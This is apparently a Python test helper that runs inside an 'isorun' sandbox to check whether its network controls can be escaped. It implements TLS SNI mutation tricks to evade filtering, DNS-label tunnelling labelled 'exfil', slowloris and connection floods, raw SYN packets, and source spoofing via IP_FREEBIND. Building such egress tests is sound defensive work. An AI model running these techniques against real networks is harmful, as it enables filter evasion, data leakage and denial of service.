#!/usr/bin/env python3
"""attack.py - escape attempts, run from inside an isorun sandbox.

Copied into the sandbox by tests/escape/lib.sub (the host image does not
show /work). Standard library only. Each subcommand makes one kind of
attempt and prints what the client saw, one "key: value" line each; the
test judges by what reached the far side (server logs, resolver logs,
nftables counters in the simulated internet), never by this output alone.

Subcommands (ADDR:PORT takes [v6]:port):
  resolve NAME                      the addresses the sandbox's resolver gives
  hello ADDR:PORT --sni NAME [...]  a real ClientHello (Python's ssl), mutated
                                    and/or cut up, then the handshake and one
                                    HTTP request when it is left intact
  http ADDR:PORT --head TEXT        bytes of an HTTP head (\\r\\n escapes), then
                                    the answer; --again TEXT on the same socket
  tcp ADDR:PORT [--data TEXT]       connect, send, read
  udp ADDR:PORT [--data TEXT] [-n N] datagrams, wait for echoes
  dns SERVER NAME [--tcp] [--type T] one query, printing rcode and answers
  dns2 SERVER NAME1 NAME2 [--pipe]  two questions in one query, or (--pipe)
                                    two queries on one TCP connection
  exfil SERVER DOMAIN N [--tcp]     N queries with long unique labels
  quic ADDR:PORT                    a QUIC v1 Initial-shaped datagram
  icmp ADDR                         echo requests through ping and raw sockets
  rawsock ADDR                      raw IP/packet sockets; a hand-made SYN
  slowloris ADDR:PORT N SECONDS     N heads trickled one byte a second
  flood ADDR:PORT N                 N connections opened at once
  fetch NAME:PORT PATH N            N sequential HTTP GETs: ok count, latencies
  spoof SRC ADDR:PORT               a connection from a source not our own
  listen PORT FILE                  TCP+UDP listener (for sandbox-to-sandbox)
  hold ADDR:PORT HOST PATH READY GO an HTTP keep-alive connection: a request,
                                    (then file READY), another when GO appears
  probe ADDR:PORT HOST SECONDS FILE in the background, a new connection and
                                    request every 10 ms, logged with its time
"""

import argparse
import os
import random
import select
import socket
import ssl
import struct
import sys
import threading
import time


def say(k, v):
    print("%s: %s" % (k, v), flush=True)


def addrport(s):
    if s.startswith("["):
        a, _, p = s[1:].partition("]:")
    else:
        a, _, p = s.rpartition(":")
    return a, int(p)


def family(a):
    return socket.AF_INET6 if ":" in a else socket.AF_INET


def connect(a, p, timeout=3.0, nodelay=False):
    s = socket.socket(family(a), socket.SOCK_STREAM)
    s.settimeout(timeout)
    if nodelay:
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.connect((a, p))
    return s


def unescape(t):
    return t.encode().decode("unicode_escape").encode("latin-1")


def recv_some(s, timeout=2.0, limit=1 << 20):
    s.settimeout(timeout)
    out = b""
    try:
        while len(out) < limit:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except (socket.timeout, OSError) as e:
        if not out:
            return out, type(e).__name__ + ": " + str(e)
    return out, "eof"


# --- TLS ClientHello: made by Python's ssl, taken apart, mutated, re-cut

def real_hello(sni):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    recs = out.read()
    hs = b""
    i = 0
    while i < len(recs):
        n = struct.unpack("!H", recs[i + 3:i + 5])[0]
        hs += recs[i + 5:i + 5 + n]
        i += 5 + n
    return obj, inc, out, hs


def split_hello(hs):
    """handshake message -> (fixed part before extensions, [(type, data)])"""
    body = hs[4:]
    i = 2 + 32
    i += 1 + body[i]
    i += 2 + struct.unpack("!H", body[i:i + 2])[0]
    i += 1 + body[i]
    fixed = body[:i]
    exts = []
    j = i + 2
    while j < len(body):
        t, n = struct.unpack("!HH", body[j:j + 4])
        exts.append([t, body[j + 4:j + 4 + n]])
        j += 4 + n
    return fixed, exts


def sni_ext(names, list_delta=0, name_delta=0):
    ents = b""
    for nm in names:
        ents += b"\x00" + struct.pack("!H", len(nm) + name_delta) + nm
    return struct.pack("!H", len(ents) + list_delta) + ents


def join_hello(fixed, exts, ext_delta=None, hs_delta=0, exts_delta=0):
    eb = b""
    for k, (t, d) in enumerate(exts):
        n = len(d) + (ext_delta[1] if ext_delta and ext_delta[0] == k else 0)
        eb += struct.pack("!HH", t, n) + d
    body = fixed + struct.pack("!H", (len(eb) + exts_delta) & 0xffff) + eb
    n = len(body) + hs_delta
    return b"\x01" + struct.pack("!I", n)[1:] + body


def mutate(hs, how, sni2):
    fixed, exts = split_hello(hs)
    k = [e[0] for e in exts].index(0)
    name = exts[k][1][5:]
    other = sni2.encode()
    ext_delta = None
    hs_delta = exts_delta = 0
    if how == "two-names":
        exts[k][1] = sni_ext([name, other])
    elif how == "two-names-rev":
        exts[k][1] = sni_ext([other, name])
    elif how == "dup-ext":
        exts.insert(k + 1, [0, sni_ext([other])])
    elif how == "nul":
        exts[k][1] = sni_ext([name + b"\x00" + other])
    elif how == "nul-front":
        exts[k][1] = sni_ext([other + b"\x00" + name])
    elif how == "ip-literal":
        exts[k][1] = sni_ext([other])
    elif how == "empty-name":
        exts[k][1] = sni_ext([b""])
    elif how == "no-sni":
        del exts[k]
    elif how == "ext-len-long":
        ext_delta = (k, 7)
    elif how == "ext-len-short":
        ext_delta = (k, -3)
    elif how == "list-len-short":
        exts[k][1] = sni_ext([name], list_delta=-4)
    elif how == "list-len-long":
        exts[k][1] = sni_ext([name], list_delta=9)
    elif how == "name-len-long":
        exts[k][1] = sni_ext([name], name_delta=5)
    elif how == "name-len-short":
        exts[k][1] = sni_ext([name], name_delta=-5)
    elif how == "exts-len-short":
        exts_delta = -6
    elif how == "hs-len-short":
        hs_delta = -10
    elif how == "not-a-hello":
        return b"\x02" + join_hello(fixed, exts)[1:]
    elif how == "utf8":
        exts[k][1] = sni_ext(["äpi.example.com".encode()])
    else:
        raise SystemExit("unknown mutation " + how)
    return join_hello(fixed, exts, ext_delta, hs_delta, exts_delta)


def pad(hs, n):
    """n more bytes of hello, in extensions of unknown (private) types that
    a server ignores (never a second padding extension: a duplicate)"""
    fixed, exts = split_hello(hs)
    k = 0
    while n > 0:
        c = min(n, 30000)
        exts.append([0xfe00 + k, b"\x00" * c])
        n -= c + 4
        k += 1
    return join_hello(fixed, exts)


def records(hs, size, version=b"\x03\x01"):
    out = b""
    for i in range(0, len(hs), size):
        c = hs[i:i + size]
        out += b"\x16" + version + struct.pack("!H", len(c)) + c
    return out


def cmd_hello(a):
    addr, port = addrport(a.to)
    obj, inc, out, hs = real_hello(a.sni if a.mutate not in ("utf8",) and
                                   a.sni else "placeholder.test")
    intact = not (a.mutate or a.pad or a.declare or a.sslv2)
    if a.mutate:
        hs = mutate(hs, a.mutate, a.sni2)
    if a.pad:
        hs = pad(hs, a.pad)
    if a.declare:
        hs = hs[:1] + struct.pack("!I", a.declare)[1:] + hs[4:]
    wire = records(hs, a.records or 16384)
    if a.sslv2:
        wire = bytes([0x80, 0x2e, 0x01, 0x03, 0x01, 0x00, 0x15, 0x00, 0x00,
                      0x00, 0x10]) + bytes(21) + os.urandom(16)
    s = connect(addr, port, nodelay=bool(a.seg))
    try:
        if a.seg:
            for i in range(0, len(wire), a.seg):
                s.send(wire[i:i + a.seg])
                time.sleep(0.002)
        else:
            s.sendall(wire)
        if not intact:
            data, how = recv_some(s, 2.0)
            say("answer", data[:16].hex() or "nothing (" + how + ")")
            return 0
        # the intact hello: finish the handshake, then one request
        s.settimeout(5)
        while True:
            try:
                obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                x = out.read()
                if x:
                    s.sendall(x)
                b = s.recv(65536)
                if not b:
                    say("answer", "closed during the handshake")
                    return 0
                inc.write(b)
        x = out.read()
        if x:
            s.sendall(x)
        host = a.host or a.sni
        obj.write(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
                   % (a.path, host)).encode())
        s.sendall(out.read())
        resp = b""
        while True:
            try:
                resp += obj.read(65536)
                continue
            except ssl.SSLWantReadError:
                pass
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                break
            b = s.recv(65536)
            if not b:
                break
            inc.write(b)
        say("answer", resp.split(b"\r\n")[0].decode("latin-1"))
        say("body", resp.split(b"\r\n\r\n", 1)[-1].decode("latin-1").strip())
    except OSError as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    finally:
        s.close()
    return 0


def cmd_http(a):
    addr, port = addrport(a.to)
    try:
        s = connect(addr, port)
        s.sendall(unescape(a.head))
        data, how = recv_some(s, 3.0 if not a.again else 1.0)
        say("answer", data.split(b"\r\n")[0].decode("latin-1") or
            "nothing (" + how + ")")
        if a.again:
            try:
                s.sendall(unescape(a.again))
                data, how = recv_some(s, 2.0)
                say("again", data.split(b"\r\n")[0].decode("latin-1") or
                    "nothing (" + how + ")")
            except OSError as e:
                say("again", "%s: %s" % (type(e).__name__, e))
        s.close()
    except OSError as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    return 0


def cmd_tcp(a):
    addr, port = addrport(a.to)
    try:
        s = connect(addr, port)
        if a.data:
            s.sendall(unescape(a.data))
        data, how = recv_some(s, a.wait)
        say("answer", repr(data[:64]) if data else "nothing (" + how + ")")
        s.close()
    except OSError as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    return 0


def cmd_udp(a):
    addr, port = addrport(a.to)
    got = 0
    try:
        s = socket.socket(family(addr), socket.SOCK_DGRAM)
        s.settimeout(0.25)
        for i in range(a.n):
            try:
                s.sendto(unescape(a.data) if a.data else
                         ("udp-%d" % i).encode(), (addr, port))
                s.recv(65536)
                got += 1
            except OSError:
                pass
    except OSError as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    say("echoes", got)
    return 0


# --- DNS

TYPES = {"A": 1, "NS": 2, "CNAME": 5, "TXT": 16, "AAAA": 28, "ANY": 255,
         "HTTPS": 65}


def dns_query(name, qtype, qid=None):
    qid = random.randrange(65536) if qid is None else qid
    q = struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0)
    for lab in name.rstrip(".").split("."):
        q += bytes([len(lab)]) + lab.encode()
    return q + b"\x00" + struct.pack("!HH", TYPES.get(qtype, 1), 1)


def dns_ask(server, name, qtype="A", tcp=False, timeout=2.0, port=53):
    q = dns_query(name, qtype)
    fam = family(server)
    if tcp:
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(timeout)
        s.connect((server, port))
        s.sendall(struct.pack("!H", len(q)) + q)
        n = struct.unpack("!H", s.recv(2))[0]
        r = b""
        while len(r) < n:
            b = s.recv(n - len(r))
            if not b:
                break
            r += b
        s.close()
    else:
        s = socket.socket(fam, socket.SOCK_DGRAM)
        s.settimeout(timeout)
        s.sendto(q, (server, port))
        r = s.recv(65536)
        s.close()
    return r


def dns_parse(r):
    rcode = r[3] & 15
    an = struct.unpack("!H", r[6:8])[0]
    i = 12
    qd = struct.unpack("!H", r[4:6])[0]

    def skip(i):
        while True:
            n = r[i]
            if n == 0:
                return i + 1
            if n & 0xc0:
                return i + 2
            i += 1 + n
    for _ in range(qd):
        i = skip(i) + 4
    ans = []
    for _ in range(an):
        i = skip(i)
        t, _c, _ttl, n = struct.unpack("!HHIH", r[i:i + 10])
        d = r[i + 10:i + 10 + n]
        if t == 1:
            ans.append(socket.inet_ntop(socket.AF_INET, d))
        elif t == 28:
            ans.append(socket.inet_ntop(socket.AF_INET6, d))
        else:
            ans.append("type%d" % t)
        i += 10 + n
    names = ["NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP",
             "REFUSED"]
    return (names[rcode] if rcode < len(names) else str(rcode)), ans


def cmd_dns(a):
    try:
        rc, ans = dns_parse(dns_ask(a.server, a.name, a.type, a.tcp,
                                    port=a.port))
        say("status", rc)
        say("answers", " ".join(ans) or "none")
    except (OSError, IndexError, struct.error) as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    return 0


def cmd_dns2(a):
    """two questions in one message, or (--pipe, TCP) two messages on one
    connection: the second name must be judged as much as the first"""
    fam = family(a.server)
    if a.pipe:
        q1, q2 = dns_query(a.name1, "A"), dns_query(a.name2, "A")
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.settimeout(2)
        try:
            s.connect((a.server, 53))
            s.sendall(struct.pack("!H", len(q1)) + q1 +
                      struct.pack("!H", len(q2)) + q2)
            data, _ = recv_some(s, 1.5)
            say("bytes", len(data))
        except OSError as e:
            say("error", "%s: %s" % (type(e).__name__, e))
        s.close()
        return 0
    q = dns_query(a.name1, "A")
    q = q[:4] + b"\x00\x02" + q[6:]
    for lab in a.name2.split("."):
        q += bytes([len(lab)]) + lab.encode()
    q += b"\x00\x00\x01\x00\x01"
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.settimeout(1.5)
    try:
        s.sendto(q, (a.server, 53))
        r = s.recv(65536)
        say("rcode", r[3] & 15)
    except OSError as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    return 0


def cmd_exfil(a):
    answered = 0
    for i in range(a.n):
        secret = os.urandom(28).hex()          # 56 characters per label
        name = "%s.%s.x%d.%s" % (secret, secret[::-1], i, a.domain)
        try:
            dns_ask(a.server, name, "TXT" if i % 2 else "A", a.tcp, 1.0)
            answered += 1
        except (OSError, struct.error):
            pass
    say("answered", answered)
    return 0


def cmd_quic(a):
    addr, port = addrport(a.to)
    dcid = os.urandom(8)
    pkt = bytes([0xc3]) + b"\x00\x00\x00\x01" + bytes([len(dcid)]) + dcid + \
        b"\x00" + b"\x00" + b"\x44\xc4" + os.urandom(1196)
    s = socket.socket(family(addr), socket.SOCK_DGRAM)
    s.settimeout(0.25)
    got = 0
    for _ in range(2):
        try:
            s.sendto(pkt, (addr, port))
            s.recv(4096)
            got += 1
        except OSError:
            pass
    say("answers", got)
    return 0


def icmp_echo(fam, seq):
    t = 8 if fam == socket.AF_INET else 128
    h = struct.pack("!BBHHH", t, 0, 0, 0x4952, seq) + b"isorun-escape"
    if fam == socket.AF_INET:
        c = sum(struct.unpack("!%dH" % ((len(h) + 1) // 2), h + b"\0" * (len(h) % 2)))
        c = (c >> 16) + (c & 0xffff)
        c = ~(c + (c >> 16)) & 0xffff
        h = h[:2] + struct.pack("!H", c) + h[4:]
    return h


def cmd_icmp(a):
    fam = family(a.addr)
    proto = socket.IPPROTO_ICMP if fam == socket.AF_INET else \
        socket.IPPROTO_ICMPV6
    for kind, typ in (("ping-socket", socket.SOCK_DGRAM),
                      ("raw-socket", socket.SOCK_RAW)):
        try:
            s = socket.socket(fam, typ, proto)
            s.settimeout(0.5)
            s.sendto(icmp_echo(fam, 1), (a.addr, 0))
            try:
                s.recv(4096)
                say(kind, "reply")
            except OSError as e:
                say(kind, "sent, %s" % type(e).__name__)
        except OSError as e:
            say(kind, "%s: %s" % (type(e).__name__, e))
    return 0


def cmd_rawsock(a):
    for kind, args in (("raw-tcp", (socket.AF_INET, socket.SOCK_RAW,
                                    socket.IPPROTO_TCP)),
                       ("raw-ip", (socket.AF_INET, socket.SOCK_RAW,
                                   socket.IPPROTO_RAW)),
                       ("packet", (socket.AF_PACKET, socket.SOCK_RAW,
                                   socket.htons(3)))):
        try:
            s = socket.socket(*args)
        except OSError as e:
            say(kind, "%s: %s" % (type(e).__name__, e))
            continue
        try:
            # a bare SYN to port 80; the kernel fills the IP header of raw-tcp
            syn = struct.pack("!HHIIBBHHH", 40000, 80, 1, 0, 5 << 4, 2,
                              65535, 0, 0)
            s.sendto(syn, (a.addr, 0))
            say(kind, "sent")
        except OSError as e:
            say(kind, "opened; send %s: %s" % (type(e).__name__, e))
    return 0


def cmd_slowloris(a):
    addr, port = addrport(a.to)
    socks = []
    for i in range(a.n):
        try:
            s = connect(addr, port, timeout=3)
            s.setblocking(False)
            s.send(b"GET /slowloris-%d HTTP/1.1\r\n" % i)
            socks.append(s)
        except OSError:
            pass
    say("opened", len(socks))
    end = time.time() + a.seconds
    closed = 0
    while time.time() < end and socks:
        time.sleep(1)
        alive = []
        for s in socks:
            try:
                s.send(b"X")
                po = select.poll()
                po.register(s, select.POLLIN)
                if po.poll(0) and not s.recv(4096):
                    raise OSError("closed")
                alive.append(s)
            except OSError:
                closed += 1
                s.close()
        socks = alive
    say("closed-by-peer", closed)
    say("still-open", len(socks))
    for s in socks:
        s.close()
    return 0


def cmd_flood(a):
    addr, port = addrport(a.to)
    socks, res = [], {}
    for _ in range(a.n):
        s = socket.socket(family(addr), socket.SOCK_STREAM)
        s.setblocking(False)
        s.connect_ex((addr, port))
        socks.append(s)
    end = time.time() + 5
    po = select.poll()
    pend = {}
    for s in socks:
        po.register(s, select.POLLOUT)
        pend[s.fileno()] = s
    while pend and time.time() < end:
        for fd, _ in po.poll(200):
            s = pend.pop(fd)
            po.unregister(fd)
            e = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            k = os.strerror(e) if e else "connected"
            res[k] = res.get(k, 0) + 1
    res["pending"] = len(pend)
    for s in socks:
        s.close()
    say("outcomes", " ".join("%s=%d" % kv for kv in sorted(res.items())))
    return 0


def cmd_fetch(a):
    name, port = addrport(a.to)
    lat, ok = [], 0
    for i in range(a.n):
        t0 = time.time()
        try:
            s = socket.create_connection((name, port), timeout=5)
            s.sendall(("GET %s-%d HTTP/1.1\r\nHost: %s\r\nConnection: close"
                       "\r\n\r\n" % (a.path, i, name)).encode())
            data, _ = recv_some(s, 5.0)
            s.close()
            if data.startswith(b"HTTP/1.1 200"):
                ok += 1
        except OSError:
            pass
        lat.append(time.time() - t0)
    lat.sort()
    say("ok", ok)
    say("median-ms", int(lat[len(lat) // 2] * 1000))
    say("max-ms", int(lat[-1] * 1000))
    return 0


def cmd_listen(a):
    if os.fork():
        return 0
    os.setsid()
    fd = os.open(a.file, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    for f in (0, 1, 2):
        os.dup2(os.open("/dev/null", os.O_RDWR), f)

    def note(what):
        os.write(fd, (what + "\n").encode())
    ts, us = [], []
    for fam, any_ in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        t = socket.socket(fam, socket.SOCK_STREAM)
        t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if fam == socket.AF_INET6:
            t.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        t.bind((any_, a.port))
        t.listen(64)
        ts.append(t)
        u = socket.socket(fam, socket.SOCK_DGRAM)
        if fam == socket.AF_INET6:
            u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        u.bind((any_, a.port))
        us.append(u)
    note("listening")
    while True:
        r, _, _ = select.select(ts + us, [], [])
        for s in r:
            if s in ts:
                c, peer = s.accept()
                note("tcp from %s" % peer[0])
                c.close()
            else:
                _, peer = s.recvfrom(4096)
                note("udp from %s" % peer[0])


def cmd_hold(a):
    addr, port = addrport(a.to)
    req = "GET %s HTTP/1.1\r\nHost: %s\r\n\r\n"
    try:
        s = connect(addr, port, timeout=5)
        s.sendall((req % (a.path + "-1", a.host)).encode())
        data = s.recv(65536)
        say("first", data.split(b"\r\n")[0].decode("latin-1"))
        open(a.ready, "w").close()
        end = time.time() + 10
        while not os.path.exists(a.go) and time.time() < end:
            time.sleep(0.02)
        try:
            s.sendall((req % (a.path + "-2", a.host)).encode())
            data, how = recv_some(s, 2.0)
            say("second", data.split(b"\r\n")[0].decode("latin-1") or
                "nothing (" + how + ")")
        except OSError as e:
            say("second", "%s: %s" % (type(e).__name__, e))
        s.close()
    except OSError as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    return 0


def cmd_probe(a):
    """for a live policy change: a new connection every 10 ms, each
    request's path carrying its start time in ms"""
    if os.fork():
        return 0
    os.setsid()
    addr, port = addrport(a.to)
    f = open(a.file, "a")
    end = time.time() + a.seconds
    while time.time() < end:
        t = int(time.time() * 1000)
        try:
            s = connect(addr, port, timeout=1)
            s.sendall(("GET /probe-%d HTTP/1.1\r\nHost: %s\r\n"
                       "Connection: close\r\n\r\n" % (t, a.host)).encode())
            data, _ = recv_some(s, 1.0)
            s.close()
            r = "ok" if data.startswith(b"HTTP/1.1 200") else "blocked"
        except OSError:
            r = "blocked"
        f.write("%d %s\n" % (t, r))
        f.flush()
        time.sleep(0.01)
    f.write("end\n")
    f.close()
    os._exit(0)


def cmd_spoof(a):
    """a connection from an address that is not the sandbox's own (another
    sandbox's), bound with IP_FREEBIND, which needs no privilege"""
    addr, port = addrport(a.to)
    fam = family(addr)
    s = socket.socket(fam, socket.SOCK_STREAM)
    try:
        if fam == socket.AF_INET:
            s.setsockopt(socket.SOL_IP, 15, 1)             # IP_FREEBIND
        else:
            s.setsockopt(socket.IPPROTO_IPV6, 78, 1)       # IPV6_FREEBIND
        s.bind((a.src, 0))
        s.settimeout(2)
        s.connect((addr, port))
        s.sendall(b"GET /spoofed HTTP/1.1\r\nHost: x\r\n\r\n")
        say("answer", s.recv(64))
    except OSError as e:
        say("error", "%s: %s" % (type(e).__name__, e))
    s.close()
    return 0


def cmd_resolve(a):
    try:
        ai = socket.getaddrinfo(a.name, None, type=socket.SOCK_STREAM)
        say("addresses", " ".join(sorted(set(x[4][0] for x in ai))))
    except socket.gaierror as e:
        say("addresses", "none (%s)" % e)
    return 0


def main():
    p = argparse.ArgumentParser(prog="attack.py")
    sub = p.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("resolve")
    c.add_argument("name")
    c = sub.add_parser("hello")
    c.add_argument("to")
    c.add_argument("--sni", default="")
    c.add_argument("--sni2", default="blocked.test")
    c.add_argument("--mutate")
    c.add_argument("--seg", type=int, default=0)
    c.add_argument("--records", type=int, default=0)
    c.add_argument("--pad", type=int, default=0)
    c.add_argument("--declare", type=int, default=0)
    c.add_argument("--sslv2", action="store_true")
    c.add_argument("--host")
    c.add_argument("--path", default="/")
    c = sub.add_parser("http")
    c.add_argument("to")
    c.add_argument("--head", required=True)
    c.add_argument("--again")
    c = sub.add_parser("tcp")
    c.add_argument("to")
    c.add_argument("--data")
    c.add_argument("--wait", type=float, default=2.0)
    c = sub.add_parser("udp")
    c.add_argument("to")
    c.add_argument("--data")
    c.add_argument("-n", type=int, default=2)
    c = sub.add_parser("dns")
    c.add_argument("server")
    c.add_argument("name")
    c.add_argument("--tcp", action="store_true")
    c.add_argument("--type", default="A")
    c.add_argument("--port", type=int, default=53)
    c = sub.add_parser("dns2")
    c.add_argument("server")
    c.add_argument("name1")
    c.add_argument("name2")
    c.add_argument("--pipe", action="store_true")
    c = sub.add_parser("exfil")
    c.add_argument("server")
    c.add_argument("domain")
    c.add_argument("n", type=int)
    c.add_argument("--tcp", action="store_true")
    c = sub.add_parser("quic")
    c.add_argument("to")
    c = sub.add_parser("icmp")
    c.add_argument("addr")
    c = sub.add_parser("rawsock")
    c.add_argument("addr")
    c = sub.add_parser("slowloris")
    c.add_argument("to")
    c.add_argument("n", type=int)
    c.add_argument("seconds", type=float)
    c = sub.add_parser("flood")
    c.add_argument("to")
    c.add_argument("n", type=int)
    c = sub.add_parser("fetch")
    c.add_argument("to")
    c.add_argument("path")
    c.add_argument("n", type=int)
    c = sub.add_parser("listen")
    c.add_argument("port", type=int)
    c.add_argument("file")
    c = sub.add_parser("spoof")
    c.add_argument("src")
    c.add_argument("to")
    c = sub.add_parser("probe")
    c.add_argument("to")
    c.add_argument("host")
    c.add_argument("seconds", type=float)
    c.add_argument("file")
    c = sub.add_parser("hold")
    c.add_argument("to")
    c.add_argument("host")
    c.add_argument("path")
    c.add_argument("ready")
    c.add_argument("go")
    a = p.parse_args()
    return globals()["cmd_" + a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
